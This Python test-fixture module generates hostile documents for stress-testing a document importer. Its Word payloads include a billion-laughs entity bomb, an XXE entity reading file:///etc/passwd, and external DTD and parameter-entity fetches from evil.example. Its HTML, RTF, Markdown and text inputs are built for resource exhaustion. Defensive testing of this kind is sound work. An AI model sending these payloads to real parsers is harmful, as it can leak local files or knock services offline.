"""Files that want to do harm, as small or as large as they are asked for.

``files(1)`` are what `make prove` hands to the importer; tests hand in a twentieth of that.
"""

import io
import zipfile
from collections.abc import Callable

from apps.desk.tests import documents
from apps.desk.tests.documents import docx, paragraph, zipped

MB = 1024 * 1024
_Many = Callable[[str, int], str]
BODY = paragraph("Quiet street finds a voice") + paragraph(
    "The first paragraph says what happened."
)
W = f'xmlns:w="{documents.W}"'
LAUGHS = "".join(
    f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "ha"}">' for n in range(12)
)  # 10 ** 11 times "ha"


HEAD = "<html><head><title>x</title></head><body><h1>Quiet street</h1><p>One went home.</p>"
TEXT = "Quiet street\n\nOne went home.\n\n"


def document_xml(markup: str | bytes) -> bytes:
    """A Word package whose main part is ``markup``."""
    package = io.BytesIO(docx(BODY))
    with zipfile.ZipFile(package) as old:
        members = {name: old.read(name) for name in old.namelist()}
    return zipped({**members, "word/document.xml": markup})


def files(scale: float) -> dict[str, bytes]:
    """Every file by a name that says what it is; ``scale`` times its full size."""

    def many(text: str, count: int) -> str:
        return text * max(1, int(count * scale))

    found = {f"Word {name}": document_xml(markup) for name, markup in _words(many, scale).items()}
    for kind, lead, parts in (
        ("page", HEAD, _pages(many)),
        ("RTF", "{\\rtf1\\ansi Quiet street\\par One went home.\\par ", _rtf(many)),
        ("Markdown", f"# {TEXT}[^1]: A note.\n\n", _markdown(many)),
        ("text", TEXT, _texts(many)),
        ("bare", "", _texts(many)),
    ):
        for number, part in enumerate(parts, start=1):
            found[f"{kind} {number} {part[:12]!r}"] = f"{lead}{part}".encode()
    return found


def _words(many: _Many, scale: float) -> dict[str, str | bytes]:
    markups = [
        f'<?xml version="1.0"?><!DOCTYPE x [{LAUGHS}]><w:document {W}>&l11;</w:document>',
        f'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><w:document {W}>&e;</w:document>',
        f'<!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><w:document {W}/>',
        f'<!DOCTYPE x [<!ENTITY % e SYSTEM "http://evil.example/x">%e;]><w:document {W}/>',
        f'<!DOCTYPE x [{LAUGHS}]><w:document {W} w:a="&l11;"/>',
        ('<?xml version="1.0" encoding="utf-16"?><!DOCTYPE x [<!ENTITY e "x">]><x>&e;</x>').encode(
            "utf-16"
        ),
        f"<w:document {W}><w:body>" + many("<w:sdt><w:sdtContent>", 100_000),
        f"<w:document {W}><w:body>" + many("<w:p>", 100_000) + many("</w:p>", 100_000),
        f"<w:document {W}>" + many("<w:p/>", 3_000_000),
        f"<w:document {W} " + " ".join(f'a{n}=""' for n in range(int(2_000_000 * scale))) + "/>",
        "<w:document",
        "",
    ]
    names = (
        "laughs file dtd parameter attribute utf-16 deep paragraphs million attributes cut nothing"
    )
    return dict(zip(names.split(), markups, strict=True))


def _pages(many: _Many) -> list[str]:
    return [
        many("<div>", 100_000) + "deep",
        many("<table><tr><td>", 20_000) + "deep",
        many("<ul><li>", 100_000),
        many("<blockquote>", 100_000),
        many("<b>", 2_000_000),
        many("<p>a", 550_000),
        "<p " + many("a='1' ", 1_000_000) + ">",
        many("<!--", 1_000_000),
        many("<!", 300_000),
        many("<![CDATA[", 1_000_000),
        many("&", 20 * MB),
        many("<a href=#", 500_000),
        many("data:image/", 1_000_000),
        "data:image/png;" + many("a=b;", 1_000_000),
        "<p>" + many("\n", 5_000_000) + "文",
        "<p>" + many("文\n", 1_000_000),
        many("<sup><a href='#n'>1</a></sup>", 100_000) + "<p id=n>Note",
        "<p class='" + many("nav-", 1_000_000) + many("'>text</p>", 10),
        '<img src="data:image/png;base64,' + many("A", 18_000_000) + '">',
    ]


def _rtf(many: _Many) -> list[str]:
    return [
        many("{", 100_000) + "deep",
        many("{\\b ", 100_000),
        many("{}", 1_300_000),
        "{\\*\\shppict{\\pict\\pngblip " + many("a", 10_000_000),
        many("{\\footnote ", 20_000),
        many("{\\*\\shptxt ", 20_000),
        "\\bin99999999 x",
        many("\\u99999999999?", 100_000),
        many("\\'", 1_000_000),
        many("\\trowd\\cell", 200_000),
        many("\\par ", 200_000),
        many("\\", 2_000_000),
    ]


def _markdown(many: _Many) -> list[str]:
    return [
        many("[", 100_000),
        many("[a](", 100_000),
        many("![", 100_000),
        many("*", 200_000),
        many("*a_", 100_000),
        many("`", 200_001),
        many("> ", 20_000) + "x",
        many("- ", 20_000) + "x",
        many("[^1]", 50_000),
        many("|", 300_000),
        many("<", 300_000),
        many("a |\n", 50_000),
        many("---\n", 50_000),
        many("<a ", 100_000),
        many("&amp", 200_000),
    ]


def _texts(many: _Many) -> list[str]:
    return [
        many("a ", 10 * MB),
        many("a\n", 10 * MB),
        many("一二三，", 20 * MB // 12),
        many("\n", 20 * MB),
        many("9", 1_900_000),
        many("1,000 ", 300_000),
        many("(", 1_900_000),
        many("Photo: ", 250_000),
        many("近", 600_000),
        many("“", 600_000),
        many(" ", 1_900_000) + "x",
        many("A", 1_900_000),
        many("Aa ", 600_000),
        many("x: ", 600_000),
        "MIME-Version: 1\nContent-Type: multipart/mixed; boundary=a\n\n" + many("--a\n\n", 300_000),
        "Content-Type: text/html\nMIME-Version: 1.0\n\n" + many("<p>", 2_000_000),
        many("A: b\n", 3_000_000),
    ]
